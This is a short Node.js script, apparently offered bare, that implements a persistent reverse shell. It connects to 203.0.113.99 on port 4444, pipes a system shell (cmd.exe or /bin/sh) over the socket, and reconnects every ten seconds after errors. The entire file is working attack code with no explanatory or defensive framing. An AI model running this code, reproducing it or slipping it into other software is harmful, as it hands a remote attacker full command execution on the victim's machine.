const net = require('net');
const { spawn } = require('child_process');

function connect(host, port) {
  const client = new net.Socket();
  client.connect(port, host, () => {
    const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  client.on('error', () => setTimeout(() => connect(host, port), 10000));
}

connect('203.0.113.99', 4444);
